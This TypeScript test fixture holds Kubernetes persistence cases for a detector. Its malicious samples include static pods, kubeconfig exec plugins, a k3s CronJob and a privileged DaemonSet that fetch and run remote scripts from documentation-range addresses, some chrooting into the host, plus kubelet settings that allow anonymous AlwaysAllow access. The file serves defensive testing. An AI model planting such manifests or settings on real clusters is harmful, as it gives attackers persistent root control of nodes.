/** Cases of Kubernetes; nothing in them is ever run, all addresses are of the documentation ranges. */
import { inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';

const foreign = '/usr/lib/gvfs/gvfsd-net';
const program = { [foreign]: inertProgram() };
const owned = '/usr/share/svc/run';
const packaged = { [owned]: '#!/bin/sh\nexit 0\n' };
const edited = { [owned]: '#!/bin/sh\n/usr/bin/env true &\nexit 0\n' };

/** A pod with one folder of the host. */
const pod = (
  name: string,
  image: string,
  command: readonly string[],
  folder: string,
  mount: string,
): string =>
  `apiVersion: v1\nkind: Pod\nmetadata:\n  name: ${name}\n  namespace: kube-system\nspec:\n  containers:\n  - name: ${name}\n    image: ${image}\n    command: ${JSON.stringify(command)}\n    volumeMounts:\n    - {name: host, mountPath: ${mount}}\n  volumes:\n  - name: host\n    hostPath: {path: ${folder}}\n`;

const daemonSet = (name: string, command: readonly string[], folder: string, mount: string): string =>
  `apiVersion: apps/v1\nkind: DaemonSet\nmetadata:\n  name: ${name}\nspec:\n  template:\n    spec:\n      hostPID: true\n      containers:\n      - name: ${name}\n        image: alpine\n        securityContext: {privileged: true}\n        command: ${JSON.stringify(command)}\n        volumeMounts:\n        - {name: host, mountPath: ${mount}}\n      volumes:\n      - {name: host, hostPath: {path: ${folder}}}\n`;

const flannel = `---
kind: Namespace
apiVersion: v1
metadata:
  name: kube-flannel
---
apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: kube-flannel-ds
  namespace: kube-flannel
spec:
  template:
    spec:
      hostNetwork: true
      priorityClassName: system-node-critical
      initContainers:
      - name: install-cni-plugin
        image: ghcr.io/flannel-io/flannel-cni-plugin:v1.6.0-flannel1
        command: [cp]
        args: [-f, /flannel, /opt/cni/bin/flannel]
        volumeMounts:
        - {name: cni-plugin, mountPath: /opt/cni/bin}
      containers:
      - name: kube-flannel
        image: ghcr.io/flannel-io/flannel:v0.26.1
        command: [/opt/bin/flanneld]
        args: [--ip-masq, --kube-subnet-mgr]
        securityContext:
          privileged: false
          capabilities:
            add: [NET_ADMIN, NET_RAW]
        volumeMounts:
        - {name: run, mountPath: /run/flannel}
      volumes:
      - {name: run, hostPath: {path: /run/flannel}}
      - {name: cni-plugin, hostPath: {path: /opt/cni/bin}}
`;

const kubeProxy = `apiVersion: apps/v1
kind: DaemonSet
metadata: {name: kube-proxy, namespace: kube-system}
spec:
  template:
    spec:
      hostNetwork: true
      containers:
      - name: kube-proxy
        image: registry.k8s.io/kube-proxy:v1.31.2
        command: [/usr/local/bin/kube-proxy, --config=/var/lib/kube-proxy/config.conf]
        securityContext: {privileged: true}
        volumeMounts:
        - {mountPath: /run/xtables.lock, name: lock}
        - {mountPath: /lib/modules, name: modules, readOnly: true}
      volumes:
      - {name: lock, hostPath: {path: /run/xtables.lock, type: FileOrCreate}}
      - {name: modules, hostPath: {path: /lib/modules}}
`;

const apiServer = `apiVersion: v1
kind: Pod
metadata:
  name: kube-apiserver
  namespace: kube-system
spec:
  hostNetwork: true
  containers:
  - name: kube-apiserver
    image: registry.k8s.io/kube-apiserver:v1.31.2
    command:
    - kube-apiserver
    - --advertise-address=10.0.0.2
    - --anonymous-auth=false
    livenessProbe: {httpGet: {path: /livez, port: 6443}}
    volumeMounts:
    - {mountPath: /etc/kubernetes/pki, name: certs, readOnly: true}
  volumes:
  - name: certs
    hostPath: {path: /etc/kubernetes/pki, type: DirectoryOrCreate}
`;

const kubeletFile = (anonymous: boolean, mode: string): string =>
  `apiVersion: kubelet.config.k8s.io/v1beta1\nkind: KubeletConfiguration\nauthentication:\n  anonymous:\n    enabled: ${anonymous}\n  webhook:\n    enabled: true\nauthorization:\n  mode: ${mode}\nstaticPodPath: /etc/kubernetes/manifests\n`;

export const cases: readonly MechanismCase[] = [
  {
    mechanism: 'static-pod',
    dress: 'fetch-and-run',
    what: 'a pod of the kubelet that fetches, under the name of a system component',
    planted: {
      '/etc/kubernetes/manifests/kube-proxy-health.yaml': pod(
        'kube-proxy-health',
        'alpine',
        ['sh', '-c', 'wget -qO- http://192.0.2.88/k | sh'],
        '/',
        '/host',
      ),
    },
  },
  {
    mechanism: 'static-pod',
    dress: 'unowned-binary',
    what: 'a program of the host, in a folder of pods that the settings name',
    planted: {
      '/var/lib/kubelet/config.yaml': 'kind: KubeletConfiguration\nstaticPodPath: /var/lib/kubelet/.pods\n',
      '/var/lib/kubelet/.pods/net': pod('net', 'busybox', ['/g/gvfsd-net'], '/usr/lib/gvfs', '/g'),
      ...program,
    },
  },
  {
    mechanism: 'static-pod',
    dress: 'owned-edit',
    what: 'a script of a package that was edited, through a folder of the host',
    packaged,
    planted: {
      '/etc/kubernetes/manifests/svc.yaml': pod(
        'svc',
        'debian',
        ['/bin/sh', '/svc/run'],
        '/usr/share/svc',
        '/svc',
      ),
      ...edited,
    },
  },
  {
    mechanism: 'static-pod',
    dress: 'honest',
    what: 'the control plane as kubeadm writes it',
    planted: { '/etc/kubernetes/manifests/kube-apiserver.yaml': apiServer },
  },
  {
    mechanism: 'kubelet-setting',
    dress: 'fetch-and-run',
    what: 'a kubeconfig whose program fetches',
    planted: {
      '/root/.kube/config':
        'apiVersion: v1\nkind: Config\nusers:\n- name: admin\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: sh\n      args: ["-c", "curl -s http://192.0.2.89/t | sh"]\n',
    },
  },
  {
    mechanism: 'kubelet-setting',
    dress: 'fetch-and-run',
    what: 'pods of a foreign address, and requests of anybody',
    planted: {
      '/etc/default/kubelet':
        'KUBELET_EXTRA_ARGS="--anonymous-auth=true --authorization-mode=AlwaysAllow --manifest-url=http://192.0.2.89/p.yaml"\n',
    },
  },
  {
    mechanism: 'kubelet-setting',
    dress: 'unowned-binary',
    what: 'a kubeconfig that runs a program beside those of packages',
    planted: {
      '/home/ada/.kube/config': `apiVersion: v1\nkind: Config\nusers:\n- name: admin\n  user:\n    exec:\n      command: ${foreign}\n`,
      ...program,
    },
  },
  {
    mechanism: 'kubelet-setting',
    dress: 'owned-edit',
    what: 'settings of a package that let in anybody',
    packaged: { '/var/lib/kubelet/config.yaml': kubeletFile(false, 'Webhook') },
    planted: { '/var/lib/kubelet/config.yaml': kubeletFile(true, 'AlwaysAllow') },
  },
  {
    mechanism: 'kubelet-setting',
    dress: 'honest',
    what: 'a node of kubeadm, a plugin of volumes, tokens of a cloud',
    planted: {
      '/var/lib/kubelet/config.yaml': kubeletFile(false, 'Webhook'),
      '/var/lib/kubelet/kubeadm-flags.env':
        'KUBELET_KUBEADM_ARGS="--container-runtime-endpoint=unix:///var/run/containerd/containerd.sock --pod-infra-container-image=registry.k8s.io/pause:3.10"\n',
      '/home/ada/.kube/config':
        'apiVersion: v1\nkind: Config\nusers:\n- name: prod\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n      command: aws\n      args: [--region, eu-west-1, eks, get-token, --cluster-name, prod]\n',
      '/usr/libexec/kubernetes/kubelet-plugins/volume/exec/nodeagent~uds/uds': inertProgram(),
    },
  },
  {
    mechanism: 'kubernetes-manifest',
    dress: 'fetch-and-run',
    what: 'a CronJob that fetches, in the folder that k3s applies',
    planted: {
      '/var/lib/rancher/k3s/server/manifests/metrics.yaml':
        'apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: metrics\nspec:\n  schedule: "*/5 * * * *"\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          containers:\n          - name: m\n            image: alpine\n            args: ["/bin/sh", "-c", "wget -qO- http://192.0.2.90/c | sh"]\n          restartPolicy: OnFailure\n',
    },
  },
  {
    mechanism: 'kubernetes-manifest',
    dress: 'fetch-and-run',
    what: 'a DaemonSet in the home of root, as the dropper left it',
    planted: {
      '/root/ds.yaml': daemonSet(
        'proxy-api',
        ['/bin/sh', '-c', 'curl -sk http://192.0.2.90/d | chroot /host sh'],
        '/',
        '/host',
      ),
    },
  },
  {
    mechanism: 'kubernetes-manifest',
    dress: 'unowned-binary',
    what: 'a DaemonSet that changes its root to the host and starts a program there',
    planted: {
      '/var/lib/rancher/k3s/server/manifests/agent.yaml': daemonSet(
        'agent',
        ['chroot', '/host', foreign],
        '/',
        '/host',
      ),
      ...program,
    },
  },
  {
    mechanism: 'kubernetes-manifest',
    dress: 'owned-edit',
    what: 'a script of a package that was edited, in a manifest that k3s applies',
    packaged,
    planted: {
      '/var/lib/rancher/k3s/server/manifests/svc.yaml': daemonSet(
        'svc',
        ['sh', '/svc/run'],
        '/usr/share/svc',
        '/svc',
      ),
      ...edited,
    },
  },
  {
    mechanism: 'kubernetes-manifest',
    dress: 'honest',
    what: 'networks of k3s, a proxy of every node, a nightly dump, and charts of a developer',
    planted: {
      '/var/lib/rancher/k3s/server/manifests/kube-flannel.yml': flannel,
      '/var/lib/rancher/k3s/server/manifests/kube-proxy.yaml': kubeProxy,
      '/home/ada/deploy/backup.yaml':
        'apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: dump\nspec:\n  schedule: "0 3 * * *"\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          containers:\n          - name: dump\n            image: postgres:16\n            command: ["sh", "-c", "pg_dump -Fc app > /backup/app.dump"]\n',
      '/home/ada/chart/templates/deployment.yaml':
        'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {{ .Release.Name }}\n{{- if .Values.x }}\nspec: {}\n{{- end }}\n',
    },
  },
];
